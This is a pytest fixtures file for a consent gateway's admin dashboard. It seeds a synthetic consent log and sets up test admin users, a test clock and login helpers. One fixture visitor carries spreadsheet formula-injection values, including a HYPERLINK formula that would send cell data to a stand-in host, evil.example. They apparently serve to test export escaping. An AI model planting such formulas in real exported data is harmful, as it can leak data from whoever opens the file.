"""Fixtures for the dashboard: a real SQLite consent log in a temp dir, filled through its own ``append``,
and the admin app mounted where the gateway mounts it (``/_consent/admin``)."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import random
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from argon2 import PasswordHasher
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient

from consent_gateway.admin import build_admin_app
from consent_gateway.config import AdminConfig, AdminUser, Config
from consent_gateway.events import ConsentEvent, EventChain
from consent_gateway.store import ConsentLog, open_log

SECRET_KEYS = ["admin-test-signing-key-0123456789-abcdefghijkl", "admin-older-key-0123456789-abcdefghijklmnop"]
PREFIX = "/_consent/admin"
#: Cheap hashes: the tests check the logic, not the cost. The same forms as production hashes.
FAST_ARGON2 = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
DPO_PASSWORD = "correct horse battery staple"
AUDITOR_PASSWORD = "another long passphrase"
API_TOKEN = "tok_0123456789abcdef0123456789abcdef"
#: 2026-03-10 12:00 UTC: the tests' "now".
NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC).timestamp()
VISITOR = "c0ffee00-visitor-with-history"
INJECTION_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def scrypt_hash(password: str, n: int = 2**10) -> str:
    """A hash in the documented ``scrypt$n$r$p$salt$hash`` form, made with hashlib alone."""
    salt = b"0123456789abcdef"
    key = hashlib.scrypt(password.encode(), salt=salt, n=n, r=8, p=1, dklen=32, maxmem=256 * n * 8 + 2**20)
    return f"scrypt${n}$8$1${base64.b64encode(salt).decode()}${base64.b64encode(key).decode()}"


class Clock:
    """A clock the test moves by hand (injected into the app; nothing is patched)."""

    def __init__(self, now: float = NOW) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def make_events() -> list[ConsentEvent]:
    """Three weeks of varied events (seeded, so every call gives the same), chained like the gateway does."""
    rng = random.Random(7)
    chain = EventChain("test-instance")
    events = []
    start = datetime(2026, 2, 17, 0, 0, tzinfo=UTC)
    countries = ["FR", "FR", "FR", "DE", "DE", "BE", "ES", "US", "IT"]
    browsers = [
        ("Chrome", "desktop"),
        ("Firefox", "desktop"),
        ("Mobile Safari", "mobile"),
        ("Chrome Mobile", "mobile"),
        ("Samsung Internet", "tablet"),
        ("Edge", "desktop"),
    ]
    for i in range(400):
        when = start + timedelta(minutes=72 * i + rng.randrange(60))
        browser, device = browsers[rng.randrange(len(browsers))]
        country = countries[rng.randrange(len(countries))]
        # A policy change on 3 March: the new banner asks more clearly, and fewer visitors accept marketing.
        new_policy = when >= datetime(2026, 3, 3, tzinfo=UTC)
        events.append(
            chain.append(
                ConsentEvent(
                    event_id=f"ev-{i:04d}",
                    consent_id=f"visitor-{i:04d}",
                    action=rng.choice(["consent-given"] * 8 + ["consent-updated", "gpc-applied"]),
                    categories={
                        "necessary": True,
                        "analytics": rng.random() < (0.62 if new_policy else 0.7),
                        "marketing": rng.random() < (0.22 if new_policy else 0.35),
                        "preferences": rng.random() < 0.48,
                    },
                    vendors={"youtube": i % 3 != 0} if i % 2 == 0 else {},
                    policy_version="2" if new_policy else "1",
                    banner_version="b1",
                    timestamp_ms=int(when.timestamp() * 1000),
                    page_path="/pricing",
                    ip=f"203.0.113.{i % 250}",
                    user_agent=f"Mozilla/5.0 test {browser}",
                    browser_family=browser,
                    browser_version="120.0",
                    device_type=device,
                    country=country,
                    is_eu=country != "US",
                    region_rule="opt-in",
                )
            )
        )
    # One visitor with a history, whose user agent and page try to plant spreadsheet formulas.
    for j, (action, analytics) in enumerate(
        [("consent-given", True), ("consent-updated", False), ("consent-withdrawn", False)]
    ):
        events.append(
            chain.append(
                ConsentEvent(
                    event_id=f"ev-visitor-{j}",
                    consent_id=VISITOR,
                    action=action,
                    categories={"necessary": True, "analytics": analytics, "marketing": False, "preferences": False},
                    vendors={"youtube": analytics},
                    policy_version="2",
                    banner_version="b1",
                    timestamp_ms=int(
                        (datetime(2026, 3, 9, 10, 0, tzinfo=UTC) + timedelta(minutes=j)).timestamp() * 1000
                    ),
                    page_path="+SUM(1,2)" if j == 0 else "/account",
                    referrer_host="@evil.example",
                    ip="198.51.100.0",
                    user_agent=INJECTION_UA,
                    browser_family="-Firefox",
                    device_type="desktop",
                    country="FR",
                    is_eu=True,
                    region_rule="opt-in",
                )
            )
        )
    return events


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def admin_config(config: Config, tmp_path: Path) -> Config:
    admin = AdminConfig(
        users=(
            AdminUser(name="dpo", password_hash=FAST_ARGON2.hash(DPO_PASSWORD), role="privacy-officer"),
            AdminUser(name="auditor", password_hash=scrypt_hash(AUDITOR_PASSWORD), role="analyst"),
        ),
        session_idle_minutes=30,
        session_max_hours=12,
        login_max_failures=5,
        lockout_minutes=15,
        audit_log=str(tmp_path / "audit" / "admin-audit.jsonl"),
    )
    return replace(config, admin=admin)


@pytest.fixture
def consent_log(admin_config: Config) -> Iterator[ConsentLog]:
    log = open_log(admin_config.store_url)
    asyncio.run(log.open())
    asyncio.run(log.append(make_events()))
    yield log
    asyncio.run(log.close())


def mounted(app: object) -> Starlette:
    """The admin app under the prefix, as the gateway's router mounts it."""
    return Starlette(routes=[Mount(PREFIX, app=app)])  # type: ignore[arg-type]


@pytest.fixture
def admin_app(admin_config: Config, consent_log: ConsentLog, clock: Clock) -> Starlette:
    app = build_admin_app(
        admin_config, consent_log, SECRET_KEYS, clock=clock, environ={"CONSENT_GATEWAY_ADMIN_TOKENS": API_TOKEN}
    )
    return mounted(app)


@pytest.fixture
def client(admin_app: Starlette) -> Iterator[TestClient]:
    with TestClient(admin_app, base_url="http://testserver", follow_redirects=False) as test_client:
        yield test_client


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token in the page"
    return found.group(1)


def login(client: TestClient, name: str = "dpo", password: str = DPO_PASSWORD, next_path: str = "/") -> object:
    page = client.get(f"{PREFIX}/login")
    assert page.status_code == 200
    return client.post(
        f"{PREFIX}/login",
        data={"csrf_token": csrf_of(page.text), "name": name, "password": password, "next": next_path},
    )


@pytest.fixture
def logged_in(client: TestClient) -> TestClient:
    response = login(client)
    assert response.status_code == 303, response.text
    return client
